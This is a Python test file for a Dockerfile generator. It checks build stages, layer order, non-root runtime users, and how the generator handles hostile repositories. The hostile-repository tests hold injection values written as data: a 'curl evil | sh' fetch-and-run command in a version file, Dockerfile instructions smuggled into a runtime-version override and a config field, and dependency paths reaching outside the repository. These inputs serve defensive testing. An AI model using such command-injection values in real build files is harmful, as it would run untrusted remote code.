"""Dockerfiles rendered from build plans: stages, layer order, users, and hostile files."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from pydantic import ValidationError

from deployq.builders.plan import BaseImages, app_overrides, dockerfile, make_plan
from deployq.builders.plan.render import command_form
from deployq.config import Settings
from deployq.errors import PlanError

CORPUS = Path(__file__).parent.parent / "fixtures" / "repos"
INSTRUCTIONS = {"FROM", "ENV", "WORKDIR", "COPY", "RUN", "EXPOSE", "CMD", "USER"}


def project(root: Path, files: dict[str, str]) -> Path:
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content)
    return root


def corpus_repo(layout: str) -> Path:
    args_file = CORPUS / layout / "args.json"
    args = json.loads(args_file.read_text()) if args_file.exists() else {}
    return CORPUS / layout / "repo" / args.get("path", ".")


def steps(text: str) -> list[tuple[str, str]]:
    out = []
    for line in text.splitlines():
        if line.strip() and not line.startswith("#"):
            instruction, _, args = line.partition(" ")
            out.append((instruction, args))
    return out


def stages(text: str) -> list[list[tuple[str, str]]]:
    found: list[list[tuple[str, str]]] = []
    for step in steps(text):
        if step[0] == "FROM":
            found.append([])
        found[-1].append(step)
    return found


PLANNED = sorted(p.name for p in CORPUS.iterdir() if (p / "expected.json").exists())


@pytest.mark.parametrize("layout", PLANNED)
def test_every_corpus_dockerfile_is_well_formed(layout: str) -> None:
    root = corpus_repo(layout)
    text = dockerfile(make_plan(root))

    for instruction, args in steps(text):
        assert instruction in INSTRUCTIONS, (instruction, args)
        if instruction == "COPY" and not args.startswith("--from"):
            sources = json.loads(args)[:-1] if args.startswith("[") else args.split()[:-1]
            assert all((root / s).exists() for s in sources), args
        if instruction == "CMD":
            assert isinstance(json.loads(args), list)
    runtime = stages(text)[-1]
    assert ("USER", "10001:10001") in runtime
    assert any(i == "EXPOSE" for i, _ in runtime)


def test_node_installs_dev_dependencies_then_builds_then_prunes() -> None:
    text = dockerfile(make_plan(corpus_repo("node-file-dependency-build")))

    build, runtime = stages(text)
    runs = [args for instruction, args in build if instruction == "RUN"]
    assert runs == ["npm ci", "rm -rf .git", "npm run build", "npm prune --omit=dev"]
    assert not any("NODE_ENV" in args for _, args in build)  # devDependencies get installed
    assert any(i == "ENV" and "NODE_ENV=production" in args for i, args in runtime)


def test_dependencies_are_installed_from_their_manifests_before_the_source() -> None:
    text = dockerfile(make_plan(corpus_repo("python-local-wheel")))

    build = stages(text)[0]
    order = [(i, a) for i, a in build if i in ("COPY", "RUN")]
    assert order[:5] == [
        ("RUN", "python3 -m venv /app/.venv"),
        ("COPY", '["requirements.txt", "./"]'),
        (
            "COPY",
            '["wheels/greeting-1.0-py3-none-any.whl", "./wheels/greeting-1.0-py3-none-any.whl"]',
        ),
        ("COPY", '["requirements/base.txt", "./requirements/base.txt"]'),
        ("RUN", "pip install --no-cache-dir -r requirements.txt"),
    ]
    assert order[5] == ("COPY", ". .")


def test_an_install_override_runs_after_the_whole_source_is_copied(tmp_path: Path) -> None:
    root = project(
        tmp_path, {"requirements.txt": "", "requirements/prod.txt": "flask\n", "main.py": ""}
    )
    overrides = app_overrides(install="pip install -r requirements/prod.txt")

    build = stages(dockerfile(make_plan(root, app=overrides)))[0]

    order = [(i, a) for i, a in build if i in ("COPY", "RUN")]
    assert order == [
        ("RUN", "python3 -m venv /app/.venv"),
        ("COPY", ". ."),
        ("RUN", "rm -rf .git"),
        ("RUN", "pip install -r requirements/prod.txt"),
    ]


def test_build_tools_stay_out_of_the_runtime_image() -> None:
    uv = stages(dockerfile(make_plan(corpus_repo("python-uv-fastapi-package"))))
    php = stages(dockerfile(make_plan(corpus_repo("php-laravel"))))
    go = stages(dockerfile(make_plan(corpus_repo("go-local-replace"))))

    assert ("COPY", "--from=build --chown=10001:10001 /app /app") in uv[-1]  # not /opt/uv
    assert ("COPY", "--from=composer:2 /usr/bin/composer /usr/bin/composer") in php[0]
    assert not any("composer" in args for _, args in php[-1])
    assert go[-1][0] == ("FROM", "gcr.io/distroless/static-debian12")
    assert ("COPY", "--from=build /app/server /app/server") in go[-1]
    assert go[-1][-1] == ("CMD", '["/app/server"]')


@pytest.mark.parametrize(
    ("start", "cmd"),
    [
        ("/app/server", ["/app/server"]),
        ("node dist/main.js --port=8080", ["node", "dist/main.js", "--port=8080"]),
        (
            "gunicorn app:app --bind 0.0.0.0:$PORT",
            ["/bin/sh", "-c", "exec gunicorn app:app --bind 0.0.0.0:$PORT"],
        ),
        ("PORT=9090 /app/server", ["/bin/sh", "-c", "PORT=9090 /app/server"]),
        (
            "python manage.py migrate && gunicorn x",
            ["/bin/sh", "-c", "python manage.py migrate && gunicorn x"],
        ),
    ],
)
def test_the_start_command_runs_through_a_shell_only_when_it_needs_one(
    start: str, cmd: list[str]
) -> None:
    assert json.loads(command_form(start)) == cmd


def test_a_static_site_never_ships_the_git_history(tmp_path: Path) -> None:
    root = project(tmp_path, {"index.html": "<h1>hi</h1>\n", ".git/config": "[core]\n"})

    site, runtime = stages(dockerfile(make_plan(root)))

    assert site[1:] == [("COPY", '[".", "/www"]'), ("RUN", "rm -rf /www/.git")]
    assert ("COPY", "--from=build /www /www") in runtime


def test_base_images_come_from_the_settings_with_the_version_family(tmp_path: Path) -> None:
    settings = Settings(
        base_image_python="registry.local/python:{version}", base_image_static="mirror/bb:1"
    )
    root = project(tmp_path, {"requirements.txt": "", "main.py": "", ".python-version": "3.11"})

    plan = make_plan(root, BaseImages.from_settings(settings))

    assert (plan.build_image, plan.runtime_image) == ("registry.local/python:3.11",) * 2


def test_a_base_image_setting_with_another_placeholder_is_refused() -> None:
    with pytest.raises(ValidationError, match="only placeholder"):
        Settings(base_image_node="node:{major}-slim")


# -- hostile repositories -------------------------------------------------------------------


def test_a_version_file_linking_outside_the_repository_is_not_read(tmp_path: Path) -> None:
    outside = tmp_path / "secret"
    outside.write_text("3.9\n")
    root = project(tmp_path / "repo", {"requirements.txt": "", "main.py": ""})
    os.symlink(outside, root / ".python-version")

    plan = make_plan(root)

    assert (plan.version, plan.version_source) == ("3.12", "default")


def test_a_symlink_loop_is_ignored(tmp_path: Path) -> None:
    root = project(tmp_path, {"index.html": "hi"})
    os.symlink(root / "package.json", root / "package.json.tmp")
    os.symlink(root / "package.json.tmp", root / "package.json")

    assert make_plan(root).provider == "static"


def test_shell_in_a_version_file_never_reaches_the_dockerfile(tmp_path: Path) -> None:
    package = {"scripts": {"start": "node index.js"}}
    root = project(
        tmp_path, {"package.json": json.dumps(package), ".nvmrc": "18; curl evil | sh\n"}
    )

    text = dockerfile(make_plan(root))

    assert "FROM node:18-slim AS build" in text
    assert not any("evil" in args for _, args in steps(text))  # only in the plan's comment


def test_an_unsafe_runtime_version_override_is_refused(tmp_path: Path) -> None:
    root = project(tmp_path, {"requirements.txt": "", "main.py": ""})

    with pytest.raises(PlanError, match=r"^--runtime-version '3.12 AS x\\nRUN curl evil' is not"):
        make_plan(root, app=app_overrides(runtime_version="3.12 AS x\nRUN curl evil"))


def test_a_multi_line_command_in_deployq_toml_is_refused(tmp_path: Path) -> None:
    root = project(
        tmp_path,
        {"index.html": "", "deployq.toml": 'start = """busybox httpd\nRUN curl evil"""\n'},
    )

    with pytest.raises(PlanError, match=r"deployq\.toml start must be one line"):
        make_plan(root)


def test_an_escape_sequence_in_the_procfile_is_refused(tmp_path: Path) -> None:
    root = project(tmp_path, {"requirements.txt": "", "Procfile": "web: python \x1b[2Japp.py\n"})

    with pytest.raises(PlanError, match="Procfile web: must be one line"):
        make_plan(root)


def test_invalid_manifests_are_errors_naming_the_file(tmp_path: Path) -> None:
    broken = project(tmp_path / "a", {"package.json": "{not json"})
    listed = project(tmp_path / "b", {"package.json": "[1, 2]"})
    toml = project(tmp_path / "c", {"pyproject.toml": "[project\nname="})

    with pytest.raises(PlanError, match=r"^package.json is not valid JSON"):
        make_plan(broken)
    with pytest.raises(PlanError, match=r"^package.json must hold a JSON object"):
        make_plan(listed)
    with pytest.raises(PlanError, match=r"^pyproject.toml is not valid TOML"):
        make_plan(toml)


def test_local_dependencies_outside_the_repository_are_not_copied(tmp_path: Path) -> None:
    package = {
        "scripts": {"start": "node index.js"},
        "dependencies": {"a": "file:../../etc", "b": "file:/etc", "c": "file:./libs/c d"},
    }
    root = project(
        tmp_path / "repo", {"package.json": json.dumps(package), "libs/c d/package.json": "{}"}
    )

    plan = make_plan(root)

    assert plan.dependency_files == ("package.json", "libs/c d")
    assert 'COPY ["libs/c d", "./libs/c d"]' in dockerfile(plan)


def test_a_binary_manifest_is_treated_as_unreadable(tmp_path: Path) -> None:
    root = project(tmp_path, {"main.py": ""})
    (root / "requirements.txt").write_bytes(b"\xff\xfe\x00flask\n")

    plan = make_plan(root)

    assert (plan.provider, plan.framework, plan.start) == ("python", None, "python main.py")
